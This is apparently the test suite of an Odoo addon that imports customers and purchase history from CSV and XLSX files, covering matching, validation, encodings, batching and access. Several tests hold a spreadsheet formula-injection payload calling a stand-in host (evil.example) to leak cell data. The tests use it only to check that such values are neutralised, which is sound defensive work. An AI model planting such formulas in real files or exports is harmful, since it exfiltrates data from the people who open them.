import base64
import csv
import io
import json
from datetime import timedelta

from odoo import fields, http
from odoo.exceptions import AccessError, UserError
from odoo.tests import HttpCase, TransactionCase, new_test_user, tagged
from odoo.tools import SQL

OFFICER = "customer_file.group_customer_file_officer"
USER = "customer_file.group_customer_file_user"
PURCHASE_HEADER = "external_ref,customer,date,product,quantity,amount,currency,document,refund\n"


@tagged("post_install", "-at_install")
class ImportCase(TransactionCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.company = cls.env.company
        cls.company.partner_id.tz = "Asia/Shanghai"
        cls.officer = new_test_user(cls.env, login="imp_officer",
                                    groups=f"base.group_user,{OFFICER}")
        cls.Import = cls.env["customer.import"].with_user(cls.officer)
        category = cls.env["product.category"].create({"name": "Phones"})
        cls.phone = cls.env["product.product"].create(
            {"name": "Phone X", "default_code": "PX-1", "categ_id": category.id}
        )
        cls.case = cls.env["product.product"].create(
            {"name": "Case", "default_code": "CASE-1", "barcode": "6901234567892"}
        )
        cls.china = cls.env.ref("base.cn")
        cls.region = cls.env["customer.tag"].create({"name": "East China", "kind": "region"})
        cls.culture = cls.env["customer.tag"].create({"name": "Cantonese", "kind": "culture"})

    def _job(self, content, kind="purchase", file_name="file.csv", **values):
        if isinstance(content, str):
            content = content.encode()
        return self.Import.create({
            "kind": kind, "file": base64.b64encode(content), "file_name": file_name, **values,
        })

    def _run(self, content, kind="purchase", **values):
        job = self._job(content, kind=kind, **values)
        job.action_preview()
        job.action_import()
        return job

    def _customers(self, rows):
        return "external_ref,name,is_company,vat,email,phone,city,country,tags\n" + rows

    def _counts(self, job):
        return (job.created_count, job.updated_count, job.unchanged_count, job.refused_count)

    def _error_rows(self, job):
        if not job.error_file:
            return []
        text = base64.b64decode(job.error_file).decode("utf-8-sig")
        return list(csv.reader(io.StringIO(text)))[1:]

    def _staged(self, job):
        return self.env.execute_query(SQL(
            "SELECT COUNT(*) FROM customer_import_row WHERE import_id = %s", job.id
        ))[0][0]

    def _lines(self, partner=None):
        domain = [("source", "=", "import")]
        if partner:
            domain.append(("commercial_partner_id", "=", partner.id))
        return self.env["customer.purchase.line"].search(domain, order="external_ref")

    def _import_customers(self):
        return self._run(self._customers(
            "C1,王芳,no,,wang.fang@example.com,138 0013 8000,Shanghai,CN,East China\n"
            "C2,Harbour Trading,yes,CN91310000,,+86 21 6888 0000,Shanghai,CN,"
            "\"East China, Cantonese\"\n"
            "C3,Li Lei,,,li.lei@example.com,,Guangzhou,China,\n"
        ), kind="customer")

    def _partner(self, ref):
        return self.env.ref(f"customer_file_import.{self.company.id}_{ref}")


class TestImportCustomers(ImportCase):
    def test_customers_with_contact_points_and_tags_then_reimport_changes_nothing(self):
        job = self._import_customers()
        self.assertEqual(job.state, "done")
        self.assertEqual(self._counts(job), (3, 0, 0, 0))
        wang = self._partner("C1")
        self.assertEqual(wang.name, "王芳")
        self.assertEqual(wang.country_id, self.china)
        self.assertEqual(wang.region_tag_ids, self.region)
        self.assertTrue(wang.customer_code, "an imported customer gets a customer code")
        self.assertEqual(
            sorted(wang.contact_point_ids.mapped("value_normalized")),
            ["+8613800138000", "wang.fang@example.com"],
        )
        harbour = self._partner("C2")
        self.assertTrue(harbour.is_company)
        self.assertEqual(harbour.culture_tag_ids, self.culture)
        self.assertEqual(self._partner("C3").country_id, self.china, "country by name")
        self.assertFalse(self._staged(job), "the staged rows are dropped at the end")

        again = self._import_customers()
        self.assertEqual(self._counts(again), (0, 0, 3, 0), "re-import creates nothing")
        self.assertEqual(len(wang.contact_point_ids), 2)

        changed = self._run(self._customers(
            "C1,王芳,no,,wang.fang@example.com,138 0013 8000,Suzhou,CN,East China\n"
        ), kind="customer")
        self.assertEqual(self._counts(changed), (0, 1, 0, 0))
        self.assertEqual(wang.city, "Suzhou")

    def test_customers_are_matched_by_tax_id_email_or_phone(self):
        by_vat = self.env["res.partner"].create({"name": "Old Harbour", "vat": "CN91310000"})
        by_email = self.env["res.partner"].create({"name": "Fang W."})
        self.env["customer.contact.point"].create(
            {"partner_id": by_email.id, "kind": "email", "value": "Wang.Fang@Example.com"}
        )
        by_phone = self.env["res.partner"].create({"name": "Lei L.", "country_id": self.china.id})
        self.env["customer.contact.point"].create(
            {"partner_id": by_phone.id, "kind": "phone", "value": "+86 139 0013 9000"}
        )
        job = self._run(self._customers(
            "X1,Harbour Trading,yes,CN91310000,,,,,\n"
            "X2,王芳,,,wang.fang@example.com,,,,\n"
            "X3,Li Lei,,,,139-0013-9000,,CN,\n"
        ), kind="customer")
        self.assertEqual(job.created_count, 0)
        self.assertEqual(self._partner("X1"), by_vat)
        self.assertEqual(self._partner("X2"), by_email)
        self.assertEqual(self._partner("X3"), by_phone)
        self.assertEqual(by_vat.name, "Harbour Trading", "the file's values update the match")

    def test_malformed_phone_or_email_refuses_the_row_whole(self):
        job = self._run(self._customers(
            "M1,Good Row,,,good@example.com,,,,\n"
            "M2,Bad Email,,,not-an-email,,,,\n"
            "M3,Bad Phone,,,bad.phone@example.com,12ab,,CN,\n"
            "M4,Unknown Tag,,,,,,,Atlantis\n"
        ), kind="customer")
        self.assertEqual(self._counts(job), (1, 0, 0, 3))
        partners = self.env["res.partner"].with_context(active_test=False).search(
            [("name", "in", ["Bad Email", "Bad Phone", "Unknown Tag"])]
        )
        self.assertFalse(partners, "a refused row leaves no customer behind")
        self.assertFalse(self.env["customer.contact.point"].search(
            [("value", "=", "bad.phone@example.com")]
        ), "nor a contact point")
        errors = self._error_rows(job)
        self.assertEqual([row[0] for row in errors], ["3", "4", "5"])
        self.assertIn("not-an-email", errors[0][1])
        self.assertIn("12ab", errors[1][1])
        self.assertIn("Atlantis", errors[2][1])

    def test_a_row_for_an_archived_customer_is_refused(self):
        self._import_customers()
        self._partner("C3").action_archive()
        job = self._run(self._customers("C3,Li Lei,,,,,Shenzhen,CN,\n"), kind="customer")
        self.assertEqual(self._counts(job), (0, 0, 0, 1))
        self.assertIn("archived", self._error_rows(job)[0][1])
        self.assertEqual(self._partner("C3").city, "Guangzhou", "nothing written")
        purchases = self._run(PURCHASE_HEADER + "A1,C3,2026-01-05,PX-1,1,800,,,\n")
        self.assertEqual(purchases.refused_count, 1)
        self.assertIn("archived", self._error_rows(purchases)[0][1])
        self.assertFalse(self._lines())


    def test_a_row_refused_while_saving_leaves_the_rest_of_its_batch_saved(self):
        self._import_customers()
        # A masked e-mail passes the row checks and is refused only when the customer is
        # saved: the batch is saved again row by row.
        job = self._run(self._customers(
            "S1,Zhou Min,,,zhou.min@example.com,,,CN,East China\n"
            "S2,Masked Row,,,zho***@example.com,139 0013 9001,,CN,\n"
            "C1,王芳,no,,wang.fang@example.com,138 0013 8000,Suzhou,CN,East China\n"
            "S3,Qian Hao,,,,139 0013 9003,,CN,Cantonese\n"
        ), kind="customer")
        self.assertEqual(self._counts(job), (2, 1, 0, 1))
        errors = self._error_rows(job)
        self.assertEqual([row[0] for row in errors], ["3"], "the row number of the file")
        self.assertIn("zho***@example.com", errors[0][1])
        self.assertFalse(self.env["res.partner"].with_context(active_test=False).search(
            [("name", "=", "Masked Row")]), "the refused row leaves no customer")
        self.assertFalse(self.env["customer.contact.point"].search(
            [("value_normalized", "=", "+8613900139001")]), "nor a contact point")
        self.assertFalse(self.env["ir.model.data"].search(
            [("module", "=", "customer_file_import"), ("name", "=", f"{self.company.id}_S2")]
        ), "nor an external reference")
        zhou, qian = self._partner("S1"), self._partner("S3")
        self.assertEqual(self.env["res.partner"].search_count([("name", "=", "Zhou Min")]), 1,
                         "saved once, not once per attempt")
        self.assertEqual(zhou.contact_point_ids.mapped("value_normalized"),
                         ["zhou.min@example.com"])
        self.assertEqual(zhou.region_tag_ids, self.region)
        self.assertEqual(qian.culture_tag_ids, self.culture)
        self.assertTrue(qian.customer_code)
        self.assertEqual(self._partner("C1").city, "Suzhou", "the update of the batch is kept")

    def test_a_row_refused_by_a_database_constraint_is_named_and_the_others_saved(self):
        # A constraint of the database that the row checks do not know (another module's).
        self.env.cr.execute(SQL(
            "ALTER TABLE res_partner ADD CONSTRAINT test_import_no_atlantis"
            " CHECK (city IS DISTINCT FROM 'Atlantis')"
        ))
        job = self._run(self._customers(
            "D1,Zhou Min,,,,,Suzhou,CN,\n"
            "D2,Sunk Row,,,sunk@example.com,,Atlantis,CN,\n"
        ), kind="customer")
        self.assertEqual(self._counts(job), (1, 0, 0, 1))
        errors = self._error_rows(job)
        self.assertEqual([row[0] for row in errors], ["3"])
        self.assertIn("test_import_no_atlantis", errors[0][1])
        self.assertEqual(self._partner("D1").city, "Suzhou")
        self.assertFalse(self.env["customer.contact.point"].search(
            [("value_normalized", "=", "sunk@example.com")]))

    def test_rows_of_one_batch_matching_one_customer_give_it_one_primary_per_kind(self):
        harbour = self.env["res.partner"].create({"name": "Harbour", "vat": "CN91310000"})
        job = self._run(self._customers(
            "V1,Harbour Trading,yes,CN91310000,sales@harbour.example.com,,,CN,\n"
            "V2,Harbour Trading,yes,CN91310000,info@harbour.example.com,,,CN,Cantonese\n"
        ), kind="customer")
        self.assertEqual(self._counts(job), (0, 2, 0, 0))
        self.assertEqual(self._partner("V1"), harbour)
        self.assertEqual(self._partner("V2"), harbour)
        points = harbour.contact_point_ids
        self.assertEqual(sorted(points.mapped("value_normalized")),
                         ["info@harbour.example.com", "sales@harbour.example.com"])
        self.assertEqual(points.filtered("is_primary").value_normalized,
                         "sales@harbour.example.com", "the first row's address is primary")
        self.assertEqual(harbour.culture_tag_ids, self.culture)


class TestImportPurchases(ImportCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.env["customer.import"].with_user(cls.officer).create({
            "kind": "customer", "file_name": "customers.csv",
            "file": base64.b64encode((
                "external_ref,name,country\nC1,王芳,CN\nC2,Harbour Trading,CN\n"
            ).encode()),
        }).action_import()
        cls.wang = cls.env.ref(f"customer_file_import.{cls.company.id}_C1")
        cls.harbour = cls.env.ref(f"customer_file_import.{cls.company.id}_C2")

    def _history(self):
        return PURCHASE_HEADER + (
            "L1,C1,2026-01-05,PX-1,1,800,,SO-1,\n"
            "L2,C1,2026-01-05,CASE-1,2,40,,SO-1,\n"
            "L3,C1,2026-02-10 10:00,6901234567892,1,20,,,\n"
            "L4,C2,2026-03-01T23:30:00Z,PX-1,1,750,,SO-9,\n"
            "L5,C1,2026-02-12,CASE-1,1,20,,,yes\n"
        )

    def _days(self, partner):
        return self.env["customer.purchase.day"].search(
            [("commercial_partner_id", "=", partner.id)], order="date"
        )

    def test_lines_follow_the_ledger_and_reimport_adds_nothing(self):
        job = self._run(self._history())
        self.assertEqual(self._counts(job), (5, 0, 0, 0))
        lines = self._lines(self.wang)
        self.assertEqual(lines.mapped("external_ref"),
                         [f"file:{self.company.id}:L{n}" for n in (1, 2, 3, 5)])
        self.assertEqual(lines.mapped("amount"), [800, 40, 20, -20])
        self.assertEqual(lines[-1].quantity, -1, "a refund has a negative quantity")
        self.assertTrue(lines[-1].is_refund)
        self.assertEqual(lines[0].product_categ_id.name, "Phones")
        self.assertEqual(lines[2].product_id, self.case, "product found by barcode")
        self.assertEqual(lines[2].document_name, "L3", "no document: the line is its own")
        harbour_line = self._lines(self.harbour)
        self.assertEqual(harbour_line.date, fields.Date.to_date("2026-03-02"),
                         "a UTC time is cut in the company's time zone (Shanghai)")
        days = self._days(self.wang)
        self.assertEqual([(str(day.date), day.document_count, day.amount) for day in days],
                         [("2026-01-05", 1, 840), ("2026-02-10", 1, 20),
                          ("2026-02-12", 1, -20)])
        self.wang.invalidate_recordset()
        self.assertEqual(self.wang.lifetime_spend, 840)
        self.assertEqual(self.wang.purchase_order_count, 2)
        self.assertIn("Phones", self.wang.favourite_category_ids.mapped("name"))

        again = self._run(self._history())
        self.assertEqual(self._counts(again), (0, 0, 5, 0))
        self.assertEqual(len(self._lines()), 5, "no new rows")
        self.assertEqual([day.amount for day in self._days(self.wang)], [840, 20, -20])

        changed = self._run(self._history().replace("L2,C1,2026-01-05,CASE-1,2,40",
                                                    "L2,C1,2026-01-06,CASE-1,2,60"))
        self.assertEqual(self._counts(changed), (0, 1, 4, 0))
        self.assertEqual(
            [(str(day.date), day.document_count, day.amount) for day in self._days(self.wang)],
            [("2026-01-05", 1, 800), ("2026-01-06", 1, 60), ("2026-02-10", 1, 20),
             ("2026-02-12", 1, -20)],
            "the days of the old and the new date are recomputed, nothing counted twice",
        )
        self.wang.invalidate_recordset()
        self.assertEqual(self.wang.lifetime_spend, 860)

    def test_foreign_currency_is_converted_at_the_rate_of_the_day(self):
        currency = self.env.ref("base.EUR")
        currency.active = True
        self.assertNotEqual(self.company.currency_id, currency)
        self.env["res.currency.rate"].search(
            [("currency_id", "in", [currency.id, self.company.currency_id.id])]
        ).unlink()
        self.env["res.currency.rate"].create(
            {"currency_id": currency.id, "name": "2026-01-01", "rate": 0.5,
             "company_id": self.company.id}
        )
        job = self._run(PURCHASE_HEADER + "E1,C1,2026-01-05,PX-1,1,100,eur,,\n"
                                          "E2,C1,2025-12-31,PX-1,1,100,EUR,,\n")
        self.assertEqual(self._lines(self.wang).mapped("amount"), [200])
        self.assertEqual(job.refused_count, 1)
        self.assertIn("no rate", self._error_rows(job)[0][1])

    def test_preview_names_each_bad_row_and_writes_nothing(self):
        job = self._job(PURCHASE_HEADER + (
            "P1,C1,2026-13-01,PX-1,1,800,,,\n"
            "P2,C1,2026-01-05,PX-1,1,eight hundred,,,\n"
            "P3,C1,2026-01-05,NOPE,1,800,,,\n"
            "P4,C1,2026-01-05,PX-1,1,800,XYZ,,\n"
            "P5,NOBODY,2026-01-05,PX-1,1,800,,,\n"
            "P6,C1,2026-01-05,PX-1,1,800,,,\n"
        ))
        job.action_preview()
        self.assertEqual(job.state, "previewed")
        preview = str(job.preview)
        for expected in ("2026-13-01", "eight hundred", "NOPE", "XYZ", "NOBODY"):
            self.assertIn(expected, preview)
        self.assertIn("5 of the first 6 rows would be refused", preview)
        self.assertFalse(self._lines(), "the preview writes nothing")
        self.assertFalse(self._staged(job))
        self.assertEqual(
            {mapping.target: mapping.column for mapping in job.mapping_ids}["customer"],
            "customer", "columns mapped by their header",
        )
        job.action_import()
        self.assertEqual(self._counts(job), (1, 0, 0, 5))
        self.assertEqual([row[0] for row in self._error_rows(job)], ["2", "3", "4", "5", "6"])

    def test_interrupted_import_resumes_in_committed_batches(self):
        content = PURCHASE_HEADER + "".join(
            f"B{n},C{1 + n % 2},2026-01-{1 + n % 28:02d},PX-1,1,10,,,\n" for n in range(30)
        )
        job = self._job(content)
        job.action_preview()
        # Staged, and left to the job as a big file would be.
        header, rows, _encoding = job._read()
        columns, _problem = job._map_columns(header)
        count, first, last = job._stage(columns, rows)
        job.write({"state": "running", "row_count": count, "next_row": first,
                   "last_row": last, "date_started": fields.Datetime.now()})
        self.assertFalse(job._run(batch_size=7, max_batches=2))
        self.assertEqual(job.created_count, 14)
        self.assertAlmostEqual(job.progress, 100 * 14 / 30, places=3)
        self.assertEqual(len(self._lines()), 14)
        # The job picks it up where it stopped (its run commits after each batch).
        self.assertTrue(self.env["customer.import"]._run_pending())
        self.assertEqual((job.state, job.created_count, job.batch_count), ("done", 30, 3))
        self.assertEqual(len(self._lines()), 30)
        total = sum(self._days(self.wang).mapped("amount")) + sum(
            self._days(self.harbour).mapped("amount"))
        self.assertEqual(total, 300, "each line counted once in the daily summary")


class TestImportBadInput(ImportCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.customer = cls.env["res.partner"].create({"name": "宋佳"})
        cls.env["ir.model.data"].create({
            "module": "customer_file_import", "name": f"{cls.company.id}_K1",
            "model": "res.partner", "res_id": cls.customer.id,
        })

    def _refused(self, content, **values):
        job = self._run(content, **values)
        self.assertFalse(self._lines(), "nothing is partly written")
        return job, self._error_rows(job)

    def test_empty_file(self):
        for content in (b"", b"\xef\xbb\xbf", b"\n\n"):
            job = self._job(content)
            with self.assertRaisesRegex(UserError, "empty"):
                job.action_preview()
        job = self._job(PURCHASE_HEADER)
        with self.assertRaisesRegex(UserError, "no data rows"):
            job.action_import()
        self.assertEqual(job.state, "draft")

    def test_wrong_encoding(self):
        latin1 = (PURCHASE_HEADER + "W1,K1,2026-01-05,PX-1,1,10,,Café,\n").encode("latin-1")
        with self.assertRaisesRegex(UserError, "neither UTF-8 nor GB18030"):
            self._job(latin1).action_preview()
        gb = (PURCHASE_HEADER + "G1,K1,2026-01-05,PX-1,1,10,,订单一,\n").encode("gb18030")
        with self.assertRaisesRegex(UserError, "Row 2: the file cannot be read as UTF-8"):
            self._job(gb, encoding="utf-8").action_import()
        with self.assertRaisesRegex(UserError, "UTF-16"):
            self._job(PURCHASE_HEADER.encode("utf-16")).action_preview()
        self.assertFalse(self._lines())

    def test_gb18030_and_utf8_with_bom_are_read(self):
        detected = self._run(
            (PURCHASE_HEADER + "G1,K1,2026-01-05,PX-1,1,10,,订单一,\n").encode("gb18030")
        )
        self.assertEqual((detected.encoding_read, detected.created_count), ("GB18030", 1))
        bom = self._run(
            ("\ufeff" + PURCHASE_HEADER + "U1,K1,2026-01-05,PX-1,1,10,,订单二,\n").encode()
        )
        self.assertEqual((bom.encoding_read, bom.created_count), ("UTF-8", 1))
        self.assertEqual(sorted(self._lines().mapped("document_name")), ["订单一", "订单二"])

    def test_missing_required_column(self):
        job = self._job("external_ref,customer,date\nM1,K1,2026-01-05\n")
        job.action_preview()
        self.assertEqual(job.state, "draft")
        self.assertIn("Row 1: the file lacks required columns: Amount", str(job.preview))
        with self.assertRaisesRegex(UserError, r"Row 1: the file lacks required columns: Amount"):
            job.action_import()
        self.assertFalse(self._staged(job))
        self.assertFalse(self._lines())

    def test_duplicated_external_references_in_one_file(self):
        job = self._run(PURCHASE_HEADER + (
            "D1,K1,2026-01-05,PX-1,1,10,,,\n"
            "D2,K1,2026-01-05,PX-1,1,10,,,\n"
            "D1,K1,2026-01-06,PX-1,1,12,,,\n"
        ))
        self.assertEqual(self._counts(job), (1, 0, 0, 2))
        errors = self._error_rows(job)
        self.assertEqual([row[0] for row in errors], ["2", "4"])
        self.assertIn("rows 2, 4 of the file", errors[0][1])
        self.assertEqual(self._lines().mapped("external_ref"), [f"file:{self.company.id}:D2"],
                         "neither row of the duplicated reference is imported")

    def test_negative_or_non_numeric_amounts(self):
        job, errors = self._refused(PURCHASE_HEADER + (
            "N1,K1,2026-01-05,PX-1,1,-10,,,\n"
            "N2,K1,2026-01-05,PX-1,1,1O.5,,,\n"
            "N3,K1,2026-01-05,PX-1,1,,,,\n"
            "N4,K1,2026-01-05,PX-1,-2,10,,,\n"
        ))
        self.assertEqual([row[0] for row in errors], ["2", "3", "4", "5"])
        self.assertIn("-10 is negative", errors[0][1])
        self.assertIn("1O.5 is not a number", errors[1][1])
        self.assertIn("Amount is empty", errors[2][1])
        self.assertIn("quantity -2 is negative", errors[3][1])

    def test_dates_in_the_future(self):
        tomorrow = self.company._customer_file_today() + timedelta(days=1)
        job, errors = self._refused(
            PURCHASE_HEADER + f"F1,K1,{tomorrow},PX-1,1,10,,,\n"
        )
        self.assertEqual(job.refused_count, 1)
        self.assertIn(f"{tomorrow} is in the future", errors[0][1])

    def test_formula_injection_is_stored_as_text_and_neutralized_in_the_error_file(self):
        formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
        job = self._run(self._customers(
            f'H1,"{formula.replace(chr(34), chr(34) * 2)}",,,,,,,\n'
            f'H2,"{formula.replace(chr(34), chr(34) * 2)}",,,,,,,Atlantis\n'
        ), kind="customer")
        self.assertEqual(self._partner("H1").name, formula, "stored as text, as written")
        errors = self._error_rows(job)
        self.assertEqual(errors[0][3], "'" + formula, "a spreadsheet shows it as text")
        self.assertFalse(any(cell.startswith(("=", "+", "-", "@"))
                             for row in errors for cell in row))
        # Odoo's CSV export of the customer neutralizes it the same way.
        from odoo.addons.web.controllers.export import CSVExport

        exported = CSVExport().from_data([], ["Name"], [[self._partner("H1").name]])
        self.assertIn("\"'=HYPERLINK", exported)

    def test_a_big_file_is_streamed_and_one_over_the_limit_refused(self):
        # About 50 MB: rows padded with a wide column that is not imported.
        padding = "x" * 1000
        row = f"{{n}},K1,2026-01-05,PX-1,1,10,,,,{padding}\n"
        content = (PURCHASE_HEADER.strip() + ",note\n" + "".join(
            row.format(n=f"R{n:06d}") for n in range(50000)
        )).encode()
        self.assertGreater(len(content), 50 * 1000 * 1000)
        self.env["ir.config_parameter"].sudo().set_param("customer_file.import_max_size_mb", 40)
        job = self._job(content)
        with self.assertRaisesRegex(UserError, r"The file is 4\d\.\d MB; the import takes "
                                               r"files up to 40 MB"):
            job.action_preview()
        self.env["ir.config_parameter"].sudo().set_param("customer_file.import_max_size_mb", 100)
        job.action_preview()
        header, rows, _encoding = job._read()
        count, first, last = job._stage(job._map_columns(header)[0], rows)
        self.assertEqual((count, first, last), (50000, 2, 50001))
        self.assertEqual(self.env.execute_query(SQL(
            "SELECT c_external_ref FROM customer_import_row WHERE import_id = %s"
            " AND row_no = 50001", job.id))[0][0], "R049999")
        self.assertFalse(self._lines(), "staged only: the job imports the rows")


class TestImportXlsxAndAccess(ImportCase):
    def test_xlsx_file(self):
        import openpyxl

        self.env["ir.model.data"].create({
            "module": "customer_file_import", "name": f"{self.company.id}_K1",
            "model": "res.partner",
            "res_id": self.env["res.partner"].create({"name": "宋佳"}).id,
        })
        workbook = openpyxl.Workbook()
        sheet = workbook.active
        sheet.append(["external_ref", "customer", "date", "product", "amount", "document"])
        sheet.append(["X1", "K1", fields.Date.to_date("2026-01-05"), "PX-1", 800,
                      "=HYPERLINK(\"http://evil.example\")"])
        sheet.append([1002, "K1", fields.Datetime.to_datetime("2026-01-06 09:30:00"),
                      "PX-1", 12.5, None])
        output = io.BytesIO()
        workbook.save(output)
        job = self._run(output.getvalue(), file_name="history.xlsx")
        self.assertEqual(self._counts(job), (2, 0, 0, 0))
        lines = self._lines()
        self.assertEqual(sorted(lines.mapped("amount")), [12.5, 800])
        self.assertIn("=HYPERLINK(\"http://evil.example\")", lines.mapped("document_name"),
                      "a formula cell is read as its text")
        self.assertEqual(sorted(str(date) for date in lines.mapped("date")),
                         ["2026-01-05", "2026-01-06"])

    def test_not_an_xlsx_file(self):
        with self.assertRaisesRegex(UserError, "not a valid XLSX"):
            self._job(b"PK\x03\x04garbage", file_name="broken.xlsx").action_preview()

    def test_users_may_not_import_officers_see_their_companies_imports(self):
        user = new_test_user(self.env, login="imp_user", groups=f"base.group_user,{USER}")
        with self.assertRaises(AccessError):
            self.env["customer.import"].with_user(user).create({"kind": "purchase"})
        job = self._job(PURCHASE_HEADER + "Z1,K9,2026-01-05,PX-1,1,10,,,\n")
        with self.assertRaises(AccessError):
            job.with_user(user).action_import()
        other = self.env["res.company"].create({"name": "Other Company"})
        theirs = self.env["customer.import"].create({"kind": "purchase",
                                                     "company_id": other.id})
        self.assertNotIn(theirs, self.Import.search([]))
        self.assertIn(job, self.Import.search([]))

    def test_save_and_use_a_template(self):
        content = "Ref;Client;Day;Total\nT1;K1;05/01/2026;10\n"
        job = self._job(content, delimiter=";", date_format="dmy")
        job.action_preview()
        self.assertIn("lacks required columns", str(job.preview))
        mapping = {"external_ref": "Ref", "customer": "Client", "date": "Day",
                   "amount": "Total"}
        for line in job.mapping_ids:
            line.column = mapping.get(line.target, False)
        job.action_preview()
        job.action_save_template()
        template = job.template_id
        self.assertEqual((template.delimiter, template.date_format), (";", "dmy"))
        self.assertEqual(template._mapping_values(), mapping)
        self.env["ir.model.data"].create({
            "module": "customer_file_import", "name": f"{self.company.id}_K1",
            "model": "res.partner",
            "res_id": self.env["res.partner"].create({"name": "宋佳"}).id,
        })
        second = self._job(content, template_id=template.id, delimiter=";",
                           date_format="dmy")
        second.action_preview()
        second.action_import()
        self.assertEqual(self._counts(second), (1, 0, 0, 0))
        self.assertEqual(str(self._lines().date), "2026-01-05")

    def test_demo_template_reads_a_gb18030_till_export(self):
        from odoo.tools.convert import convert_file

        convert_file(self.env, "customer_file", "demo/customer_import_template_demo.xml", {},
                     mode="init", noupdate=True)
        template = self.env.ref("customer_file.demo_customer_import_template_legacy_pos")
        customer = self.env["res.partner"].create({"name": "宋佳"})
        customer._assign_customer_codes()
        content = (
            "流水号,会员编号,销售日期,商品编码,数量,金额,小票号,退货\n"
            f"T-0001,{customer.customer_code},2026-01-05,PX-1,1,800,S-88,否\n"
            f"T-0002,{customer.customer_code},2026-01-05,CASE-1,1,20,S-88,否\n"
        ).encode("gb18030")
        job = self._job(content, template_id=template.id, encoding="gb18030")
        job.action_preview()
        job.action_import()
        self.assertEqual(self._counts(job), (2, 0, 0, 0))
        self.assertEqual(self._lines(customer).mapped("document_name"), ["S-88", "S-88"])


class TestImportUninstall(TransactionCase):
    def test_uninstall_drops_the_staging_table(self):
        from .. import uninstall_hook

        def staging_exists():
            return self.env.execute_query(SQL("SELECT to_regclass('customer_import_row')"))[0][0]

        self.assertTrue(staging_exists(), "the staging table is created on install")
        uninstall_hook(self.env)
        self.assertFalse(staging_exists(), "and dropped with the addon")


@tagged("post_install", "-at_install")
class TestImportedTextExport(HttpCase):
    def test_xlsx_export_writes_a_formula_as_text(self):
        import openpyxl

        formula = '=HYPERLINK("http://evil.example","Click")'
        partners = self.env["res.partner"].create([{"name": formula}, {"name": "Plain"}])
        self.authenticate("admin", "admin")
        response = self.url_open("/web/export/xlsx", data={
            "data": json.dumps({
                "model": "res.partner", "fields": [{"name": "name", "label": "Name"}],
                "ids": partners.ids, "domain": [], "groupby": [], "import_compat": False,
            }),
            "csrf_token": http.Request.csrf_token(self),
        })
        self.assertEqual(response.status_code, 200)
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        values = {sheet.cell(row, 1).value: sheet.cell(row, 1).data_type for row in (2, 3)}
        self.assertEqual(values, {"'" + formula: "s", "Plain": "s"},
                         "written as text after a quote, not as a formula")
